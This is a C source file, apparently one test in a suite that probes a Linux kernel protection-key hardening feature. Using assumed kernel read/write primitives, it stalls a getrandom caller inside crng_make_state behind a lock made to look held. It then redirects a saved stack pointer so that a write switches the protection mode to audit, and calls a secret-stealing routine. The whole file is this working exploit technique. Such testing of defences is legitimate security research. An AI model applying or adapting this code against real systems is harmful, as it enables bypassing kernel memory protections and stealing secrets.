// SPDX-License-Identifier: GPL-2.0-only
/*
 * The random generator keeps the state of its cipher on the stack of who asks, and is
 * given a pointer to it. Who finds that the key of his CPU is old waits for a lock, which
 * is made to look held, and has the pointer in a saved register. It is aimed so that the
 * count of blocks, which is one, becomes the mode of the protection: audit.
 */
#include <sys/syscall.h>
#include <unistd.h>

#include "attack.h"
#include "held.h"
#include "list.h"
#include "objects.h"

#ifdef __x86_64__
#define FUNCTION	"crng_make_state"
#define LENGTH		0x180		/* at most */
#define GENERATOR	"base_crng"	/* its generation, and its lock */
#define LOCK		8
#define COUNT		48		/* of blocks, in the state */
#define STACK_SIZE	16384
#define AUDIT		1
#define REQUEST		64		/* bytes; a shorter one is answered from another state */
#define TRIES		5
#define PAUSE		1000		/* microseconds */
#define PATIENCE	500		/* times as many */

static uint64_t mode;

static void ask(void)
{
	char answer[REQUEST];

	syscall(SYS_getrandom, answer, sizeof(answer), 0);
}

/* The lowest pointer into the stack from there on, or all ones. */
static uint64_t lowest_pointer(const uint64_t *words, uint64_t from)
{
	uint64_t lowest = UINT64_MAX;
	int i;

	for (i = -HELD_BELOW; i < 0; i++)
		if (words[i] >= from && words[i] < lowest && words[i] - from < STACK_SIZE)
			lowest = words[i];
	return lowest;
}

/* The frame of the function comes first, and the state is its caller's. */
static bool aim_at_mode(const struct held_change *change, uint64_t addr, const uint64_t *words)
{
	uint64_t state = lowest_pointer(words, lowest_pointer(words, addr) + 8);

	(void)change;
	return state != UINT64_MAX && held_replace(addr, words, state, mode - COUNT);
}

static uint32_t mode_now(void)
{
	uint32_t now = 0;

	kread(mode, &now, sizeof(now));
	return now;
}

/* Who was stopped in there holds the lock for ever, and this CPU would wait for it. */
static void settle(uint64_t lock)
{
	int i;

	for (i = 0; i < PATIENCE && !held_is_done(); i++) {
		usleep(PAUSE);
		set_lock(lock, false);
	}
}

enum outcome random_state(void)
{
	const struct held_change state = { FUNCTION, LENGTH, aim_at_mode, held_is_over, NULL };
	uint64_t generator = ksymbol(GENERATOR);
	struct held_lock lock = { generator + LOCK, NULL };
	bool changed = false;
	int i;

	mode = ksymbol("kpkeys_state");
	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	if (!mode || !generator)
		return broken("no mode, or no generator");
	held_start(ask);
	for (i = 0; i < TRIES && mode_now() != AUDIT; i++) {
		kwrite64(generator, kread64(generator) + 1);
		changed |= held_act(&lock, &state);
		settle(lock.addr);
	}
	held_stop();
	if (mode_now() != AUDIT)
		return lost("the mode is %u; the pointer was %s", mode_now(), changed ? "changed" : "not found");
	return steal_secret(&(struct store){ 0 });
}
#else
enum outcome random_state(void)
{
	return skipped("x86-64 only");
}
#endif
